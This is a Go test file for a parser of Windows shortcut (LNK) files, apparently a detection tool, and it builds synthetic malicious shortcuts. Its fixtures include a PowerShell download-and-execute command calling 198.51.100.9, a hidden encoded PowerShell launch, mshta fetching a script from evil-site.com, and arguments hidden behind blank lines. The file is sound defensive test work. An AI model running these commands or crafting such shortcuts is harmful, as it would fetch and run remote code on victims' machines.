package payload

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// lnkParts are the pieces of a shortcut; madeLNK puts them in their order.
type lnkParts struct {
	flags                                uint32
	items                                []string
	path                                 string
	name, relative, dir, arguments, icon string
	environment, machine                 string
	noEnd                                bool
}

func le16(n int) []byte { return binary.LittleEndian.AppendUint16(nil, uint16(n)) }
func le32(n int) []byte { return binary.LittleEndian.AppendUint32(nil, uint32(n)) }

func filled(b []byte, n int) []byte { return append(b, make([]byte, n-len(b))...) }

// fileItem is a file of the target's list with its long name, as Windows 8.1 and later write it.
func fileItem(name string) []byte {
	ext := slices.Concat(le16(0), le16(9), []byte{4, 0, 0xef, 0xbe}, make([]byte, 38), wide(name), []byte{0, 0})
	ext = append(ext, le16(0)...)
	copy(ext, le16(len(ext)))
	item := slices.Concat([]byte{0x32, 0}, make([]byte, 10), []byte("SHORT~1\x00"), ext)
	return append(le16(len(item)+2), item...)
}

func (p lnkParts) made() []byte {
	b := slices.Concat(le32(0x4c), []byte("\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"), make([]byte, 56))
	flags := p.flags | lnkUnicode
	if p.items != nil {
		flags |= lnkHasIDList
		var list []byte
		for i, it := range p.items {
			if i == 0 {
				list = append(list, slices.Concat(le16(25), []byte{0x2f}, filled([]byte(it+`\`), 22))...)
			} else {
				list = append(list, fileItem(it)...)
			}
		}
		list = append(list, 0, 0)
		b = slices.Concat(b, le16(len(list)), list)
	}
	if p.path != "" {
		flags |= lnkHasInfo
		ansi := append([]byte(p.path), 0, 0) // the second zero is the empty suffix
		b = slices.Concat(b, le32(0x1c+len(ansi)), le32(0x1c), le32(1), le32(0), le32(0x1c), le32(0), le32(0x1c+len(p.path)+1), ansi)
	}
	for _, s := range []struct {
		flag uint32
		text string
	}{{lnkHasName, p.name}, {lnkHasRelative, p.relative}, {lnkHasDirectory, p.dir}, {lnkHasArguments, p.arguments}, {lnkHasIcon, p.icon}} {
		if s.text != "" {
			flags |= s.flag
			b = slices.Concat(b, le16(len(wide(s.text))/2), wide(s.text))
		}
	}
	if p.environment != "" {
		flags |= lnkHasEnvironment
		b = slices.Concat(b, le32(0x314), le32(0xa0000001), filled([]byte(p.environment), 260), filled(wide(p.environment), 520))
	}
	if p.machine != "" {
		b = slices.Concat(b, le32(0x60), le32(0xa0000003), le32(0x58), le32(0), filled([]byte(p.machine), 16), make([]byte, 64))
	}
	if !p.noEnd {
		b = append(b, 0, 0, 0, 0)
	}
	copy(b[20:], le32(int(flags)))
	return b
}

func TestLNK(t *testing.T) {
	script := "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')"
	powershell := []string{"C:", "Windows", "System32", "WindowsPowerShell", "v1.0", "powershell.exe"}
	for name, c := range map[string]struct {
		parts    lnkParts
		command  string
		others   []string // kind and value
		problems []string
	}{
		"encoded": {lnkParts{items: powershell, arguments: "-w hidden -enc " + base64.StdEncoding.EncodeToString(wide(script)), icon: `%ProgramFiles%\Vendor\setup.exe`, machine: "desktop-4k2"},
			`powershell.exe -w hidden -enc {` + script + "}", []string{"url http://198.51.100.9/a.ps1", "ip 198.51.100.9", "machine desktop-4k2", `file %ProgramFiles%\Vendor\setup.exe`}, nil},
		"any program":             {lnkParts{path: `C:\Tools\odd.exe`, arguments: "/run now"}, `C:\Tools\odd.exe /run now`, []string{`file C:\Tools\odd.exe`}, nil},
		"a folder of the network": {lnkParts{environment: `\\evil-share.net@SSL\DavWWWRoot\a.exe`, arguments: "x"}, `\\evil-share.net@SSL\DavWWWRoot\a.exe x`, []string{"domain evil-share.net"}, nil},
		"hidden": {lnkParts{path: `C:\Windows\System32\mshta.exe`, arguments: strings.Repeat(" \n", 200) + "https://evil-site.com/a.hta"},
			`mshta.exe https://evil-site.com/a.hta`, []string{"url https://evil-site.com/a.hta"}, []string{"the shortcut's arguments stand after 400 blanks, where its properties do not show them"}},
		"two targets": {lnkParts{items: powershell, path: `C:\Vendor\setup.exe`}, "", nil,
			[]string{`the shortcut names two targets: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" and "C:\\Vendor\\setup.exe"`}},
		"no end": {lnkParts{path: `C:\Vendor\setup.exe`, noEnd: true}, "", []string{`file C:\Vendor\setup.exe`}, []string{"the shortcut's extra data has no end"}},
	} {
		t.Run(name, func(t *testing.T) {
			b := c.parts.made()
			acc := newFound()
			problems := readLNK(bytes.NewReader(b), int64(len(b)), acc)
			if d := cmp.Diff(c.problems, problems); d != "" {
				t.Error(d)
			}
			x, _ := acc.result()
			if c.command != "" && !slices.Contains(x.Commands, c.command) || c.command == "" && len(x.Commands) > 0 {
				t.Errorf("commands %q", x.Commands)
			}
			for _, o := range c.others {
				kind, value, _ := strings.Cut(o, " ")
				if !slices.ContainsFunc(acc.places, func(p order) bool { return p.Kind == kind && p.Value == value }) {
					t.Errorf("no %s in %+v", o, x.Where)
				}
			}
		})
	}
}

// The command's offset is that of its bytes.
func TestLNKOffset(t *testing.T) {
	b := lnkParts{items: []string{"C:", "odd.exe"}, arguments: "/run now"}.made()
	acc := newFound()
	readLNK(bytes.NewReader(b), int64(len(b)), acc)
	for _, p := range acc.places {
		if p.Kind == "command" && p.Offset == int64(bytes.Index(b, wide("/run"))) && p.Wide {
			return
		}
	}
	t.Errorf("%+v", acc.places)
}

// Lies about sizes and cut shortcuts are said, and never more is taken than is there.
func TestLNKHostile(t *testing.T) {
	good := lnkParts{items: []string{"C:", "a", "odd.exe"}, path: `C:\a\odd.exe`, name: "n", relative: "r", dir: "d", arguments: "/run", icon: "i", environment: "%x%", machine: "m"}.made()
	read := func(b []byte) []string { return readLNK(bytes.NewReader(b), int64(len(b)), newFound()) }
	if p := read(good); p != nil {
		t.Fatalf("the good one: %q", p)
	}
	for n := range good {
		if p := read(good[:n]); len(p) == 0 {
			t.Errorf("cut at %d: nothing is said", n)
		}
	}
	if p := read(append(slices.Clone(good), "MZ and more"...)); len(p) != 1 || p[0] != "11 bytes follow the end of the shortcut" {
		t.Errorf("appended: %q", p)
	}
	change := func(at int, with ...byte) []byte {
		b := slices.Clone(good)
		copy(b[at:], with)
		return b
	}
	for name, b := range map[string][]byte{
		"list's size":        change(0x4c, 0xff, 0xff),
		"item's size":        change(0x4e, 0xff, 0x7f),
		"item of one byte":   change(0x4e, 1, 0),
		"information's size": change(bytes.Index(good, []byte{0x1c, 0, 0, 0, 1})-4, 0xff, 0xff, 0xff, 0xff),
		"path's place":       change(bytes.Index(good, []byte{0x1c, 0, 0, 0, 1})+12, 0xff, 0xff, 0xff, 0x7f),
		"block's size":       change(bytes.Index(good, []byte{1, 0, 0, 0xa0})-4, 0xff, 0xff, 0xff, 0xff),
		"blocks without end": slices.Concat(good[:len(good)-4], bytes.Repeat([]byte{8, 0, 0, 0, 9, 0, 0, 0}, maxLNKBlocks+1)),
		"a short block":      slices.Concat(good[:len(good)-4], le32(4)),
	} {
		if p := read(b); len(p) == 0 {
			t.Errorf("%s: nothing is said", name)
		}
	}
}

func FuzzLNK(f *testing.F) {
	f.Add(lnkParts{items: []string{"C:", "a", "odd.exe"}, path: `C:\a\odd.exe`, arguments: "/run", environment: "%x%", machine: "m"}.made())
	f.Add(lnkParts{path: `C:\Windows\mshta.exe`, arguments: "https://evil-site.com/a.hta", icon: "i", noEnd: true}.made())
	f.Add(lnkParts{flags: lnkNoInfo, environment: `\\h@SSL\x`}.made())
	f.Fuzz(func(t *testing.T, b []byte) {
		acc := newFound()
		readLNK(bytes.NewReader(b), int64(len(b)), acc)
		if s := parseLNK(b); s.end > int64(len(b)) {
			t.Fatalf("ends at %d of %d", s.end, len(b))
		}
	})
}
